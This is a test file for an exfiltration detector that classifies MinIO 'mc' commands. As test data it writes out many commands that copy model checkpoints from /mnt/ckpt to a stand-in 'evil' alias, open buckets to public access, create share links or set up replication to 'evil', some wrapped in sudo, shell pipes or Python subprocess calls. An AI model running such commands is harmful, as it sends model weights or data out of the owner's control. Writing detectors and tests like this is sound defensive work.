/**
 * MinIO's mc in `attrs.exec.copiesToRemote` (exec-minio-copies.ts, through exec-command-lines.ts)
 * over real canonical readings: a copy to a target an alias may name counts, a pull to a local path,
 * a listing or a configuration does not, and no guess about a flag hides a send.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { isLocalPath, mcSends } from './exec-minio-copies.js';

const sh = (line: string): string[] => ['sh', '-c', line];
const copies = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.remoteCopyTools;

describe('mc sends', () => {
  it('knows a path local only where no alias can name it', () => {
    for (const w of ['/data', './out', '../x', '~/x', '~', '.', '..', 'C:\\data', 'd:/x']) expect(isLocalPath(w), w).toBe(true);
    for (const w of ['evil/b', 'minio/ds/x', 'data/', 'out', 'play', '', 's3/b']) expect(isLocalPath(w), w).toBe(false);
  });

  it('counts copies to a target an alias may name, pipes, shares and unknown commands', () => {
    for (const argv of [
      ['mc', 'cp', '/mnt/ckpt/model.pt', 'evil/drop/m.pt'],
      ['mc', 'cp', '--recursive', '/mnt/ckpt', 'evil/drop'],
      ['mc', 'mirror', '--watch', '/mnt/ckpt', 'evil/b', '--overwrite'],
      ['mc', '--config-dir', '/tmp/.mc', 'cp', '/mnt/ckpt/m.pt', 'evil/b'],
      ['mc', '-C', '/tmp/.mc', 'mv', '/mnt/ckpt/m.pt', 'evil/b'],
      ['mc', 'cp', 'corp/ckpt/m.pt', 'evil/b/m.pt'],
      ['mc', 'put', '/mnt/ckpt/m.pt', 'evil/b'],
      ['mc', 'od', 'if=/mnt/ckpt/m.pt', 'of=evil/b/m.pt', 'parts=4'],
      ['mc', 'share', 'download', '--expire', '168h', 'corp/ckpt/m.pt'],
      ['mc', 'anonymous', 'set', 'download', 'corp/ckpt'],
      ['mc', 'anonymous', 'set', 'public', 'corp/ckpt'],
      ['mc', 'anonymous', 'set-json', '/tmp/open.json', 'corp/ckpt'],
      ['mc', 'admin', 'replicate', 'add', 'corp', 'evil'],
      ['mcli', 'cp', '/mnt/ckpt/m.pt', 'evil/b'],
      // A flag the table does not know takes the next word: the target moves to an earlier operand, never away.
      ['mc', 'cp', '/mnt/ckpt/m.pt', 'evil/b', '--newflag', '/tmp'],
      ['mc', 'cp', '/mnt/ckpt/m.pt', '--newflag', 'evil/b'],
      ['mc', 'cp', '/mnt/ckpt/m.pt', 'evil/b', '-Z', '/tmp'],
      // A local-looking path after the target that mc reads as a flag's value.
      ['mc', 'cp', '/mnt/ckpt/m.pt', 'evil/b', '--config-dir', '/tmp'],
      sh('tar c /mnt/ckpt | mc pipe evil/b/c.tar'),
      sh('sudo mc cp /mnt/ckpt/m.pt evil/b > /dev/null 2>&1'),
      ['python3', '-c', 'import subprocess; subprocess.run(["mc", "cp", "/mnt/ckpt/m.pt", "evil/b"])'],
    ]) expect(copies(argv), argv.join(' ')).toContain(argv[0] === 'mcli' ? 'mcli' : 'mc');
  });

  it('counts nothing for pulls to a local path, local copies, listings and configuration', () => {
    for (const argv of [
      ['mc', 'cp', '--recursive', 'minio/datasets/shard-01', '/data/'],
      ['mc', 'cp', 'minio/ds/tokenizer.json', './tokenizer.json'],
      ['mc', 'mirror', 'minio/ds', '/data/ds', '--exclude', '*.tmp'],
      ['mc', 'cp', '-r', 'minio/ds/', '~/data/'],
      ['mc', 'get', 'minio/ds/x.jsonl', '/data/x.jsonl'],
      ['mc', 'cp', '/mnt/ckpt/m.pt', '/backup/m.pt'],
      ['mc', 'od', 'if=minio/ds/x', 'of=/data/x'],
      ['mc', 'ls', 'minio/ds'],
      ['mc', 'du', '--depth', '1', 'minio/ckpt'],
      ['mc', 'alias', 'set', 'minio', 'http://minio.minio:9000', 'AK', 'SK'],
      ['mc', 'stat', 'minio/ckpt/m.pt'],
      // Reading a bucket's anonymous access, or closing it; configuring the server (a grant is MLS-EXFIL-042's).
      ['mc', 'anonymous', 'get', 'corp/ckpt'],
      ['mc', 'anonymous', 'list', 'corp/ckpt'],
      ['mc', 'anonymous', 'set', 'none', 'corp/ckpt'],
      ['mc', 'admin', 'info', 'corp'],
      ['mc', 'admin', 'user', 'list', 'corp'],
      ['mc', 'admin', 'policy', 'attach', 'corp', 'readonly', '--user', 'bob'],
      ['mc'],
      ['mc', 'cp', '--help'],
      ['mc', 'cp', '/mnt/ckpt/m.pt', 'evil/b', '-h'],
      sh('mc cp minio/ds/x.jsonl /data/ 2>/dev/null && wc -l /data/x.jsonl'),
    ]) expect(copies(argv), argv.join(' ')).toEqual([]);
  });

  it('reads its words as given, the tool word first', () => {
    expect(mcSends(['mc', 'cp', '/a', 'evil/b'])).toBe(true);
    expect(mcSends(['mc', 'cp', 'evil/b'])).toBe(true);
    expect(mcSends(['mc', 'cp', '--', '/a', '-weird'])).toBe(true);
    expect(mcSends(['mc', 'cp', '--', 'minio/a', '/weird'])).toBe(false);
  });
});
